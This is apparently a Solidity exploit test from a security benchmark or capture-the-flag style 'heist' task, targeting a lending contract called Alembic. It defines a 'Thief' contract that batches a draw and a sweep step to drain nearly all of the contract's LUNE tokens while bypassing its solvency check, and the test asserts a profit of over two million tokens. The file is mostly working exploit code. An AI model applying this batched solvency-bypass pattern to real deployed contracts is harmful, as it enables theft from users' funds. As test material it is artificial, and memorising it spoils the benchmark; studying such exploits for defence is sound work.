// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Alembic} from "../solvency-bypass/src/Alembic.sol";
import {Feed, FlashLender, Token} from "../solvency-bypass/src/Imports.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief {
    function attack(Alembic alembic, Token lune) external {
        uint8[] memory steps = new uint8[](2);
        uint256[] memory amounts = new uint256[](2);
        (steps[0], steps[1]) = (alembic.DRAW(), alembic.SWEEP());
        // What is left pays the fees that the second step sends away.
        uint256 stock = lune.balanceOf(address(alembic)) - alembic.fees();
        amounts[0] = stock * 200 / 201;
        alembic.batch(steps, amounts);
    }
}

contract SolvencyBypassTest {
    event Profit(uint256 lunes);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    address private treasury = address(uint160(uint256(keccak256("heist actor treasury"))));
    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    Token private sol;
    Token private lune;
    Feed private feed;
    Alembic private alembic;
    FlashLender private lender;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        sol = new Token("Sol", "SOL");
        vm.prank(admin);
        lune = new Token("Lune", "LUNE");
        vm.prank(admin);
        feed = new Feed(8, 25e8, admin);
        vm.prank(admin);
        alembic = new Alembic(sol, lune, feed, treasury);
        vm.prank(admin);
        lender = new FlashLender(5);
        vm.prank(admin);
        lune.mint(address(alembic), 2500000 ether);
        vm.prank(admin);
        sol.mint(alice, 30000 ether);
        vm.prank(admin);
        sol.mint(bob, 12000 ether);
        vm.prank(admin);
        sol.mint(carol, 4000 ether);
        vm.prank(admin);
        lune.mint(carol, 9000 ether);
        vm.prank(admin);
        sol.mint(attacker, 200 ether);
        vm.prank(admin);
        sol.mint(address(lender), 50000 ether);
        vm.prank(admin);
        lune.mint(address(lender), 400000 ether);
        vm.prank(alice);
        sol.approve(address(alembic), 1e60);
        vm.prank(bob);
        sol.approve(address(alembic), 1e60);
        vm.prank(carol);
        sol.approve(address(alembic), 1e60);
        vm.prank(attacker);
        sol.approve(address(alembic), 1e60);
        vm.prank(alice);
        lune.approve(address(alembic), 1e60);
        vm.prank(bob);
        lune.approve(address(alembic), 1e60);
        vm.prank(carol);
        lune.approve(address(alembic), 1e60);
        vm.prank(attacker);
        lune.approve(address(alembic), 1e60);
        vm.prank(alice);
        alembic.put(24000 ether);
        vm.prank(alice);
        alembic.draw(350000 ether);
        vm.prank(bob);
        alembic.put(10000 ether);
        vm.prank(bob);
        alembic.draw(120000 ether);
        vm.roll(block.number + 7200);
        vm.warp(block.timestamp + 1 days);
        vm.prank(bob);
        alembic.pay(20000 ether);
    }

    function test_attack_pays() public {
        vm.prank(attacker);
        Thief thief = new Thief();
        thief.attack(alembic, lune);
        uint256 profit = lune.balanceOf(address(thief));
        emit Profit(profit);
        require(profit > 2_000_000 ether, "no profit");
        require(!alembic.solvent(address(thief)), "solvent");
    }
}
